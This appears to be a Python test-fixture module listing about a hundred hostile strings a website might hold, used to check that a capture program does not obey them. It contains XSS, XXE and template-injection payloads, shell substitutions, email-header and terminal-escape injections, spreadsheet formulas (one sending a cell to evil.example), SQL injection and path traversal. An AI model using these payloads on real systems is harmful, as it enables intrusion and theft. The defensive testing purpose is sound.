"""A hundred texts that a website may hold and nobody's program should obey (reliability.md F34)."""

from __future__ import annotations

_MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<img src=https://evil.example/p.gif>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>", "<math><mtext></form><form>",
    "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=https://evil.example>", "<embed src=x>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", "<style>@import 'https://evil.example/x.css';</style>", "<form action=https://evil.example><input name=q>",
    "<body onload=alert(1)>", "<video src=https://evil.example/v.mp4 autoplay>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<template><script>alert(1)</script></template>", "<plaintext>", "<!--", "-->",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</p></main></body></html>", "</bdi></a></h3>", "</td></tr></table>",
    "\"><script>alert(1)</script>", "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus x="', "` onerror=alert(1)", "x\" style=\"background:url(//evil.example)",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>", "<a href='  javascript:alert(1)'>x</a>", "<a href=&#106;avascript:alert(1)>x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "\\u003cscript\\u003e", "%3Cscript%3E", "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<scr\u00adipt>alert(1)</scr\u00adipt>", "＜script＞alert(1)＜/script＞", "<img/src=x/onerror=alert(1)>", "<x onclick=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{# x #}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{moment.__class__}", "%s%n%x", "%(reason)s", "$(id)", "`id`",
)  # fmt: skip
_LINES = (
    "=?utf-8?q?a=0D=0ABcc:_evil@x.test?=", "a\r\nBcc: evil@x.test", "a\nX-Injected: yes\n\nbody", "a\x0bb\x0cc", "a\x85b\u2028c\u2029d", "a\x00b\x1b]52;c;eA==\x07\x9b31m",
    "\x1b[2J\x1b[1;31mrot", "\u202etpircs\u202c", "\u2066links\u2069 \u200e\u200f\u061c", "\u200bun\u200csicht\u2060bar\ufeff", "e\u0301" * 100, "\ufdd0\uffff\U0010ffff\ue000",
    "👨‍👩‍👧 حدث جديد עברית", "A" * 3000, "ß" * 500, "a " * 800,
)  # fmt: skip
_OTHER = (
    "=HYPERLINK(\"http://evil.example/\"&A1)", "@SUM(1+1)*cmd|' /C calc'!A0", "'; DROP TABLE capture; --", "\" OR 1=1", "../../../../etc/passwd", "file:///etc/passwd",
    "\\\\evil.example\\share", "--=_boundary--",
)  # fmt: skip

TEXTS: tuple[str, ...] = (*_MARKUP, *_TEMPLATES, *_LINES, *_OTHER)


def mark(number: int) -> str:
    """What stands before the text of this number, to find it by."""
    return f"Marke{number:03d}"
